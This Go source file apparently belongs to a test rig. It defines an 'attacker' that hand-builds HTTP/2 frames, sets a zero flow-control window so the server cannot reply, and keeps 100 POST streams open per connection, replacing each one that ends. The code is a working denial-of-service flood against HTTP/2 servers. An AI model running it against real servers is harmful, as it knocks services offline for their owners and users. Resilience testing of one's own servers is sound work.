//go:build rig && linux

package rig

import (
	"bufio"
	"encoding/binary"
	"io"
	"net"
	"strings"
)

// Frames of HTTP/2 (RFC 9113, section 6).
const (
	frameData     = 0x0
	frameHeaders  = 0x1
	frameReset    = 0x3
	frameSettings = 0x4
	framePing     = 0x6

	flagAck        = 0x1
	flagEndStream  = 0x1
	flagEndHeaders = 0x4
)

// streams is how many requests a connection of HTTP/2 has in flight.
const streams = 100

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// appendField appends a header in the form that is neither compressed nor remembered (RFC
// 7541, section 6.2.2). Names and values are shorter than 127 + 128 bytes.
func appendField(b []byte, name, value string) []byte {
	return appendText(appendText(append(b, 0), strings.ToLower(name)), value)
}

func appendText(b []byte, text string) []byte {
	if len(text) < 127 {
		return append(append(b, byte(len(text))), text...)
	}
	return append(append(b, 127, byte(len(text)-127)), text...)
}

// appendRequest appends the frames of a request on a stream.
func (f form) appendRequest(b []byte, stream uint32, end bool) []byte {
	var fields []byte
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "collect.example.com"}, {":path", f.path}} {
		fields = appendField(fields, field[0], field[1])
	}
	headers := f.headers()
	for i := 0; i < len(headers); i += 2 {
		fields = appendField(fields, headers[i], headers[i+1])
	}
	b = appendFrame(b, frameHeaders, flagEndHeaders, stream, fields)
	var flags byte
	if end {
		flags = flagEndStream
	}
	return appendFrame(b, frameData, flags, stream, f.body)
}

// overHTTP2 keeps as many requests in flight as a connection may have. A window of 0 keeps the
// server from answering; end says whether the bodies come to their end.
func (a *attacker) overHTTP2(f form, window uint32, end bool) func(net.Conn) {
	return func(conn net.Conn) {
		settings := binary.BigEndian.AppendUint32([]byte{0, 4}, window) // SETTINGS_INITIAL_WINDOW_SIZE
		b := appendFrame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frameSettings, 0, 0, settings)
		next := uint32(1)
		for range streams {
			b = f.appendRequest(b, next, end)
			next += 2
		}
		a.requests.Add(streams)
		if _, err := conn.Write(b); err != nil {
			return
		}
		answers := bufio.NewReader(conn)
		for {
			ended, reply, err := readFrame(answers)
			if err != nil {
				return
			}
			if ended {
				a.requests.Add(1)
				reply = f.appendRequest(reply, next, end)
				next += 2
			}
			if _, err := conn.Write(reply); err != nil {
				return
			}
		}
	}
}

// readFrame reads a frame, and returns whether it ends a stream and what it asks for.
func readFrame(r *bufio.Reader) (ended bool, reply []byte, err error) {
	var head [9]byte
	if _, err := io.ReadFull(r, head[:]); err != nil {
		return false, nil, err
	}
	payload := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
	if _, err := io.ReadFull(r, payload); err != nil {
		return false, nil, err
	}
	switch kind, flags := head[3], head[4]; {
	case kind == frameReset, (kind == frameData || kind == frameHeaders) && flags&flagEndStream != 0:
		return true, nil, nil
	case kind == frameSettings && flags&flagAck == 0:
		return false, appendFrame(nil, frameSettings, flagAck, 0, nil), nil
	case kind == framePing && flags&flagAck == 0:
		return false, appendFrame(nil, framePing, flagAck, 0, payload), nil
	}
	return false, nil, nil
}
